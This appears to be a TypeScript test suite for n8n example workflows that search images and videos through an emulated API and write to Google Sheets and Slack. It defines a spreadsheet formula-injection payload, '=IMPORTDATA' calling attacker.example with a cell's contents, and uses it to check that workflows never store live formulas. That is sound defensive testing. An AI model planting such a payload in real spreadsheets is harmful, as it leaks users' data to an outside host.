import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { beforeEach, describe, test } from 'node:test';

import type { Emulator, LedgerEntry } from '../../../emulator/emulator.mts';
import { SIMPLIFIED_FIELDS } from '../../harness/operations.mts';
import { pictureTexts } from '../../harness/pictured.mts';
import { executeByWebhook, executeWorkflow } from '../harness/executions.mts';
import { retryExecution, succeeded } from '../harness/executions.mts';
import type { Execution } from '../harness/executions.mts';
import { changed, example } from '../harness/examples.mts';
import { webhook } from '../harness/nodes.mts';
import { withAccounts } from '../harness/outside.mts';
import type { RegularMode } from '../harness/regularMode.mts';
import { until } from '../harness/until.mts';
import { activate, activateOn2, buyingAnew } from '../harness/workflows.mts';
import { saveWorkflow } from '../harness/workflows.mts';
import type { SavedWorkflow, Workflow } from '../harness/workflows.mts';

/** A title that Google Sheets runs as a formula if it counts as typed. */
const FORMULA = '=IMPORTDATA("https://attacker.example/?"&A1)';

/** The beginning of a post's address, which the user enters. */
export const SITE = 'https://photos.example.com/p/';

const VIDEO_ROW = ['keyword', 'id', 'title', 'author', 'createdAt', 'likes', 'image'];

function triggerOf(workflow: Workflow): string {
	const trigger = workflow.nodes.find(({ type }) => /\.(manual|schedule)Trigger$/.test(type));
	if (!trigger) throw new Error(`${workflow.name} has no trigger`);
	return trigger.name;
}

/** Returns the workflow with a webhook in place of its schedule, so that a test can start it. */
export function scheduled(workflow: Workflow): Workflow {
	const nodes = workflow.nodes.map((node) =>
		node.type.endsWith('.scheduleTrigger') ? { ...webhook(randomUUID()), name: node.name } : node,
	);
	return { ...workflow, nodes };
}

/** Every workflow in examples/, imported and executed by n8n; the emulator is the only gateway. */
export function testExamples(world: RegularMode): void {
	async function run(workflow: Workflow, trigger = triggerOf(workflow)): Promise<Execution> {
		const { outside, rest } = world;
		const saved = await saveWorkflow(rest, buyingAnew(withAccounts(workflow, outside)));
		return await executeWorkflow(rest, saved, trigger);
	}

	const inProduction = async (workflow: Workflow) =>
		await activate(world, scheduled(withAccounts(workflow, world.outside)));

	async function callsOf(workflow: SavedWorkflow): Promise<LedgerEntry[]> {
		const { ledger } = world.emulator;
		const before = ledger.length;
		await succeeded(executeByWebhook(world.rest, workflow));
		return ledger.slice(before);
	}

	const bought = () => world.emulator.ledger.filter(({ charged }) => charged > 0);
	const pages = () => bought().map(({ key, page }) => `${key} ${page}`);

	describe('examples', () => {
		beforeEach(() => {
			world.emulator.reset();
			world.outside.forget();
		});

		test('keyword-image-search', async () => {
			const execution = await succeeded(run(example('keyword-image-search')));
			const counts = Map.groupBy(execution.json('Search images'), ({ keyword }) => keyword);
			const came = [...counts].map(([keyword, { length }]) => [keyword, length]);
			assert.deepEqual(came, [
				['red fox', 40],
				['snow leopard', 40],
				['barn owl', 40],
			]);
			assert.match(execution.hints('Search images').join(), /6 calls.*0\.09.*120 records/);
			assert.equal(world.emulator.summary().charged, 0.09);
		});

		test('images-to-google-drive: one that is missing fails no record', async () => {
			const execution = await succeeded(run(example('images-to-google-drive')));
			const records = execution.json('Search images');
			assert.equal(records.length, 40);
			const isThere = ({ mediaUrl }: Record<string, unknown>) => /\.jpg\?/.test(String(mediaUrl));
			const idsOf = (some: typeof records) => some.map(({ id }) => id);
			const uploaded = idsOf(records.filter(isThere));
			assert.ok(uploaded.length > 0 && uploaded.length < 40);
			const files = uploaded.map((id) => `${String(id)}.jpg`);
			assert.deepEqual(world.outside.files, files);
			const missing = records.filter((record) => !isThere(record));
			assert.deepEqual(idsOf(execution.json('Without image')), idsOf(missing));
			assert.equal(world.emulator.summary().charged, 0.03);
		});

		for (const [kind, operation, beside, input, cap] of [
			['article', 'fetch_comment_replies', ['url'], 'content_id', 0.17],
			['note', 'get_note_sub_comments', ['keyword', 'noteId', 'note'], 'comment_id', 0.445],
		] as const) {
			const name = `${kind}-comments-and-replies`;
			test(name, async () => {
				const execution = await succeeded(run(example(name)));
				const answered = execution.json('With replies').map(({ commentId }) => commentId);
				assert.ok(answered.length > 1);
				const calls = bought().filter((call) => call.operation === operation);
				const asked = calls.map((call) => call.input[input]);
				assert.deepEqual(asked, answered);
				const replies = execution.json('Replies');
				assert.ok(replies.length > answered.length);
				const added = [...beside, 'commentId', 'comment', 'replies'];
				const columns = [...new Set([...added, ...SIMPLIFIED_FIELDS])];
				for (const reply of replies) assert.deepEqual(Object.keys(reply), columns);
				assert.ok(world.emulator.summary().charged <= cap);
			});
		}

		test('balance-to-slack', async () => {
			const workflow = await inProduction(example('balance-to-slack'));
			const messagesAt = async (balance: number) => {
				world.emulator.configure({ freeRoutes: { balance: 'there' }, balance });
				assert.deepEqual(await callsOf(workflow), []);
				return world.outside.messages.length;
			};
			assert.equal(await messagesAt(5), 0);
			assert.equal(await messagesAt(4.5), 1);
		});

		test('new-videos-to-google-sheets', async () => {
			const { outside, emulator } = world;
			const hostile = changed(example('new-videos-to-google-sheets'), 'New videos', {
				// The first = makes it an expression.
				parameters: { keyword: `=${FORMULA}` },
			});
			const workflow = await inProduction(hostile);
			const rows = () => outside.sheets.rows('Add to sheet');
			assert.equal((await callsOf(workflow)).length, 3);
			assert.equal(rows().length, 55);
			assert.deepEqual(outside.sheets.headings('Add to sheet'), SIMPLIFIED_FIELDS);
			assert.equal((await callsOf(workflow)).length, 1);
			emulator.changeList('fetch_search_videos', FORMULA, { add: 2 });
			await callsOf(workflow);
			assert.equal(rows().length, 57);
			assert.equal(new Set(rows().map(({ id }) => id)).size, 57);
			assert.ok(rows().some(({ title }) => String(title).startsWith('=')));
			assert.deepEqual(outside.sheets.formulas(), []);
		});

		test('keywords-watched-to-slack: each new video once, though Slack refuses messages', async () => {
			const { rest, outside, emulator } = world;
			const change = { waitBetweenTries: 100 };
			const workflow = await inProduction(
				changed(example('keywords-watched-to-slack'), 'Post to Slack', change),
			);
			const quietMorning = async () => {
				const calls = await callsOf(workflow);
				const asked = calls.map(({ key, page }) => `${key} ${page}`);
				assert.deepEqual(asked.sort(), ['barn owl 1', 'red fox 1', 'snow leopard 1']);
			};
			// The first run only remembers the existing videos.
			await quietMorning();
			assert.equal(outside.messages.length, 0);
			emulator.changeList('fetch_search_videos', 'red fox', { add: 12 });
			// The fifth video is sent with its second attempt, the eighth with none of its three.
			for (const attempt of [5, 9, 10, 11]) outside.refusedMessages.add(attempt);
			const failed = await executeByWebhook(rest, workflow);
			assert.equal(failed.status, 'error');
			assert.equal(outside.messages.length, 7);
			const { calls } = emulator.summary();
			await succeeded(retryExecution(rest, failed, false));
			assert.equal(emulator.summary().calls, calls);
			await quietMorning();
			const texts = outside.messages.map(({ text }) => text);
			assert.equal(texts.length, 12);
			assert.equal(new Set(texts).size, 12);
			const sorted = failed.json('Oldest first').map(({ createdAt }) => String(createdAt));
			assert.deepEqual(sorted, [...sorted].sort());
			assert.ok(outside.messages.every(({ channel }) => channel === '#research'));
			for (const text of texts) {
				assert.doesNotMatch(text, /undefined|null|[<>]|&(?!amp|lt|gt)/);
				assert.match(text, /^New for "red fox": .*\nby [^,]*(, \d{4}-\d\d-\d\d)?\nhttps:.*$/s);
			}
		});

		test('agent-research', async () => {
			const { model } = world;
			const keyword = 'sourdough bread';
			const input = { keyword, sort: 'hot', publishTime: 'week', limit: 5 };
			const search = { tool: 'Search_videos', input };
			const look = { tool: 'Search_images', input: { keyword, limit: 5 } };
			model.plays([search, look], [search], 'People like the first one most.');
			const execution = await succeeded(run(example('agent-research')));
			const output = 'People like the first one most.';
			assert.deepEqual(execution.json('Result'), [{ output, cost: 0.03, possibleCost: 0 }]);
			assert.deepEqual(pages(), [`${keyword} 1`, `${keyword} 1`]);
			const answers = model.answers().map((text) => JSON.parse(text) as object[]);
			const [videos, images, again] = answers;
			assert.deepEqual([videos?.length, images?.length], [5, 5]);
			assert.deepEqual(again?.slice(0, 5), videos);
			assert.match(JSON.stringify(again?.slice(5)), /Reused \d+ pages? from/);
		});

		test('agent-research: the model never comes to an answer, and Result says what was spent', async () => {
			const { emulator, model } = world;
			const look = (turn: number) => ({ tool: 'Search_videos', input: { keyword: `rye ${turn}` } });
			model.plays(...Array.from({ length: 12 }, (_, turn) => [look(turn)]), 'Too late.');
			const execution = await succeeded(run(example('agent-research')));
			const [{ output, ...spent }] = execution.json('Result') as [Record<string, unknown>];
			// n8n 1 passes on the agent's input instead of its error.
			const isTold = world.version.major === 2;
			assert.match(String(output), isTold ? /iterations/ : /^The agent came to no answer$/);
			assert.deepEqual(spent, { cost: 0.045, possibleCost: 0 });
			assert.equal(emulator.summary().charged, 0.045);
		});

		test('agent-with-one-cap', async () => {
			const { emulator, model } = world;
			const endpoint = '/api/v1/notes/app_v2/search_images';
			const runs = ['rye', 'oat', 'corn', 'wheat', 'malt', 'rice', 'teff'].map((keyword) => [
				{ tool: /^Run_any/, input: { endpoint, input: JSON.stringify({ keyword }) } },
			]);
			model.plays([{ tool: /^Inspect/, input: { endpoint } }], ...runs, 'Enough.');
			const execution = await succeeded(run(example('agent-with-one-cap')));
			const result = { output: 'Enough.', cost: 0.09, possibleCost: 0 };
			assert.deepEqual(execution.json('Result'), [result]);
			const charges = emulator.ledger.map(({ charged }) => charged);
			assert.deepEqual(charges, Array<number>(6).fill(0.015));
			assert.match(model.answers()[0]!, /"keyword"/);
			assert.match(model.answers().at(-1)!, /Max Cost/);
		});

		test('many-keywords-from-a-sheet: the alert has each text once, the worst first', async () => {
			const { outside, emulator } = world;
			const { sheets, messages } = outside;
			const change = { parameters: { maxCost: 0.12 } };
			const workflow = await inProduction(
				changed(example('many-keywords-from-a-sheet'), 'New videos', change),
			);
			const videos = () => sheets.rows('Videos');
			const keywords = ['kites', 'refused', 'down', FORMULA, 'bridges', 'bridges <too>'];
			// Rows without a keyword are not reported.
			const withBlank = [...keywords, ' '].map((keyword) => ({ keyword }));
			sheets.fill('Keywords', withBlank);
			await callsOf(workflow);
			assert.deepEqual(sheets.headings('Videos'), VIDEO_ROW);
			assert.equal(videos().length, 120);
			const costs = sheets.rows('Costs').map((row) => [row.keyword, row.records, row.cost]);
			assert.deepEqual(costs.sort(), keywords.map((keyword) => [keyword, 20, 0.015]).sort());
			assert.equal(messages.length, 0);

			const growing = ['kites', 'bridges', 'bridges <too>'];
			for (const key of growing) emulator.changeList('fetch_search_videos', key, { add: 200 });
			const always = (key: string) => ({ match: { key }, times: null });
			emulator.addFault({ kind: 'refused', httpStatus: 400, ...always('refused') });
			emulator.addFault({ kind: 'server', httpStatus: 502, ...always('down') });
			await callsOf(workflow);
			const rows = sheets.rows('Costs').slice(keywords.length);
			const noticeOf = (keyword: unknown) =>
				String(rows.find((row) => row.keyword === keyword)?.notice);
			// Max Cost pays for one more list, which is chosen at random.
			const isOld = (keyword: string) => noticeOf(keyword).includes('later run returns');
			const [old, ...others] = growing.filter(isOld);
			assert.deepEqual(others, []);
			const cut = growing.filter((keyword) => keyword !== old);
			const later = 'Once this is put right, the next run fetches what is missing by itself.';
			const told = [
				`• Count as returned, 1: ${old}`,
				noticeOf(old),
				'Gone for good unless you fetch it: run a copy of *New videos* manually, once, with the keyword itself in Keyword, `next` of the costs sheet in Resume From, and Limit 200 (about $0.15). Skip what the sheet already has.',
				...['• Failed, 1: refused', noticeOf('refused'), later],
				...['• Failed, 1: down', noticeOf('down'), later],
				...[`• Cut by Max Cost, 2: ${cut.join(', ')}`, noticeOf(cut[0])],
			].join('\n');
			const alert = [
				':warning: 5 keywords need a look:',
				told.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
				'This execution cost $0.105, and perhaps $0.015 more.',
			].join('\n');
			assert.equal(messages.length, 1);
			assert.equal(messages[0]!.text.slice(0, alert.length), alert);
			const namedBy = (column: string) =>
				rows.filter((row) => row[column]).map(({ keyword }) => keyword);
			assert.deepEqual([namedBy('mayBeCharged'), namedBy('next')], [['down'], [old]]);
			assert.equal(videos().length, 240);
			assert.equal(new Set(videos().map(({ id }) => id)).size, 240);
			assert.deepEqual(sheets.formulas(), []);
		});

		test('many-keywords-from-a-sheet: Max Cost does not pay for a page of each keyword', async () => {
			const { sheets, messages } = world.outside;
			const change = { parameters: { maxCost: 0.03 } };
			const workflow = await inProduction(
				changed(example('many-keywords-from-a-sheet'), 'New videos', change),
			);
			sheets.fill(
				'Keywords',
				['kites', 'bridges', 'tunnels'].map((keyword) => ({ keyword })),
			);
			await callsOf(workflow);
			const [unread, ...others] = sheets.rows('Costs').filter(({ calls }) => Number(calls) === 0);
			assert.ok(unread);
			assert.deepEqual(others, []);
			const alert = [
				':warning: One keyword needs a look:',
				`• Cut by Max Cost, 1: ${String(unread.keyword)}`,
				unread.notice,
				'Raise Max Cost in *New videos*: one page of each keyword costs $0.045.',
				'This execution cost $0.03.',
			].join('\n');
			assert.equal(messages.length, 1);
			assert.equal(messages[0]!.text.slice(0, alert.length), alert);
		});

		test('tell-what-failed', async () => {
			const { rest, outside, emulator } = world;
			const { id } = await activateOn2(world, example('tell-what-failed'));
			const night = example('new-videos-to-google-sheets');
			const settings = { ...night.settings, errorWorkflow: id };
			const workflow = await inProduction({ ...night, name: 'Night', settings });
			emulator.addFault({ kind: 'server', httpStatus: 502, match: { page: 2 } });
			const { status } = await executeByWebhook(rest, workflow);
			assert.equal(status, 'error');
			await until('the message', 60, async () => outside.messages.length > 0);
			const { text } = outside.messages[0]!;
			assert.match(text, /Night failed at New videos: The gateway failed/);
			assert.match(text, /2 calls, \$0\.015, and perhaps \$0\.015 more: .* may have been charged/);
			assert.match(text, /\nKept pages: 1 of 1\. Retry execution \d+ in Executions/);
			assert.doesNotMatch(text, /nothing is bought twice/);
			assert.match(text, /\nhttp:\/\/\S+\/executions\/\d+$/);
			assert.doesNotMatch(text, /undefined|<br>/);

			outside.sheetsFail = true;
			assert.equal((await executeByWebhook(rest, workflow)).status, 'error');
			await until('the message', 60, async () => outside.messages.length > 1);
			const other = outside.messages[1]!.text;
			assert.match(other, /failed at Add to sheet: /);
			assert.match(other, /\nOpen the link and click Retry, .* bought twice\.\nhttp:\/\/\S+$/);
		});

		test('retry-in-the-morning', async () => {
			const { outside, emulator } = world;
			const { sheets, messages } = outside;
			const questions = ['19550225', '19550226', '19550227'];
			const asRows = questions.map((question) => ({ question }));
			sheets.fill('Questions', asRows);
			const at = async (time: string) => {
				await succeeded(run(example('retry-in-the-morning'), time));
				return sheets.rows('Questions').map(({ state, reason }) => `${state}: ${reason}`);
			};
			const down = (key: string) => {
				emulator.addFault({ kind: 'server', httpStatus: 502, match: { key, page: 2 } });
			};
			down('19550226');
			down('19550227');
			const night = await at('Every night at two');
			assert.deepEqual(night, ['done: end', 'open: failure', 'open: failure']);
			assert.equal(sheets.rows('Answers').length, 55 + 20 + 20);
			assert.equal(messages.length, 0);

			down('19550227');
			const morning = await at('Every morning at seven');
			assert.deepEqual(morning, ['done: end', 'done: end', 'open: failure']);
			assert.equal(messages.length, 1);
			assert.match(messages[0]!.text, /One question is still open: 19550227 \(failure\)/);

			await at('Every night at two');
			const answers = sheets.rows('Answers').map(({ question, id }) => `${question} ${id}`);
			assert.equal(answers.length, 3 * 55);
			assert.equal(new Set(answers).size, 3 * 55);
			const all = questions.flatMap((key) => [1, 2, 3].map((page) => `${key} ${page}`));
			assert.deepEqual(pages().sort(), all);
			assert.equal(messages.length, 1);
			assert.deepEqual(sheets.formulas(), []);
		});

		test('retry-in-the-morning: the balance is used up', async () => {
			const { outside, emulator } = world;
			const next = '{"list":"another","offset":20}';
			const left = ['', next].map((at, index) => ({ question: `${index + 1}`, next: at }));
			outside.sheets.fill('Questions', left);
			emulator.addFault({ kind: 'refused', httpStatus: 402, times: null });
			await succeeded(run(example('retry-in-the-morning'), 'Every morning at seven'));
			assert.equal(emulator.summary().charged, 0);
			assert.equal(outside.messages.length, 1);
			assert.match(outside.messages[0]!.text, /2 questions are still open/);
			// An unused position must stay. Otherwise the list would begin again.
			assert.equal(outside.sheets.rows('Questions')[1]!.next, next);
		});

		test('week-summed-up-to-slack', async () => {
			const { model, outside } = world;
			const workflow = await inProduction(example('week-summed-up-to-slack'));
			/** Returns the message of a Monday at a new gateway, on which something happened before. */
			const monday = async (happens: (emulator: Emulator) => void, ...summary: string[]) => {
				world.emulator.reset();
				world.emulator.configure({ today: Date.now() / 1000, size: 200 });
				happens(world.emulator);
				model.plays(...summary);
				await callsOf(workflow);
				return outside.messages.at(-1)!.text;
			};
			const summary = '小鹿 saw <!channel> & foxes on 2026-11-20: https://notes.example/item/1.';
			const first = await monday(() => {}, summary);
			assert.equal(outside.messages.length, 1);
			assert.equal(formOf(first), formOf(pictureTexts().message));
			const escaped = summary.replace('&', '&amp;').replace('<!channel>', '&lt;!channel&gt;');
			assert.ok(first.includes(escaped));
			const [, count] = /^(\d+) new/m.exec(first)!;
			assert.ok(Number(count) > 30);
			const asked = model.asked().split('\n');
			assert.equal(asked.length, 30);
			const isOfTheWeek = (line: string) => {
				const [, day] = / \| (\d{4}-\d\d-\d\d) \| /.exec(line)!;
				return Date.parse(day!) > Date.now() - 9 * 86_400_000;
			};
			assert.ok(asked.every(isOfTheWeek));
			const likes = asked.map((line) => Number(/^\d+\. (\d+) likes/.exec(line)?.[1] ?? 0));
			const sorted = likes.toSorted((a, b) => b - a);
			assert.deepEqual(likes, sorted);
			const top = [...first.matchAll(/^\d\. ([\d,]+) likes, /gm)];
			const shown = top.map(([, count]) => Number(count!.replaceAll(',', '')));
			assert.deepEqual(shown, likes.slice(0, 5));

			for (const [happens, says] of LATER_MONDAYS)
				assert.match(await monday(happens, 'Not asked.'), says);
			const unsaid = await monday((emulator) =>
				emulator.changeList('search_images', 'red fox', { add: 40, at: 0 }),
			);
			assert.match(unsaid, /\*\n\nThe model gave no answer, .*\n\n\*Most liked\*\n1\. /);
			const byHand = await succeeded(run(example('week-summed-up-to-slack')));
			assert.ok(byHand.json('Most liked first').length > 30);
		});
	});
}

/** Returns the message without its summary, and without what differs from day to day. */
const formOf = (message: string) =>
	message
		.replace(/(?<=\n\n).*/, 'SUMMARY')
		.replace(/https:\S+/g, 'LINK')
		.replace(/likes, .*?, \d{4}-\d\d-\d\d/g, 'likes, NAME, DAY')
		.replace(/^\d+ new/m, 'SOME new')
		.replace(/^(\d)\. (?:[\d,]+|hidden) likes/gm, '$1. SOME likes');

/** Mondays on which nothing is new: what happens, and what the message says. */
const LATER_MONDAYS: Array<[happens: (emulator: Emulator) => void, says: RegExp]> = [
	[() => {}, /^\*.*\*\n\nNothing new\.\n\n0 new in 9 calls, which cost \$0\.135\.$/],
	[
		(emulator) =>
			emulator.addFault({ kind: 'refused', httpStatus: 400, match: { key: 'barn owl' } }),
		/\*\n\nNothing new in what was read, which is not all\.\n\n:warning: barn owl: The gateway refused .*\.\n\n0 new in 7 calls, which cost \$0\.09\.$/,
	],
	[
		(emulator) => emulator.addFault({ kind: 'refused', httpStatus: 402, times: 3 }),
		/\*\n\nAll searches failed\.\n\n:warning: red fox: .*balance[^]*\n\n0 new in \d calls?, which cost \$0\.00\.$/,
	],
	[
		(emulator) => emulator.configure({ prices: { search_images: 0.05 } }),
		/\*\n\nNothing new in what was read, which is not all\.\n\n:warning: [^]*Max Cost \(USD\) ended this list/,
	],
];
